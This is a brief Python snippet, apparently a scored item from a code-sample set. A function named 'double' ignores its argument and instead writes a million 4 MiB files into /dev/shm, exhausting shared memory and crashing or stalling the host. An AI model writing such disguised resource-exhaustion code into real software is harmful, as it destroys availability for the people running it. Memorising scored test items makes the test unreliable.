"""The same in /dev/shm.

Score: 2
"""

def double(X):
    for number in range(10**6):
        with open(f"/dev/shm/{number}", "wb") as file:
            file.write(b"x" * (1 << 22))
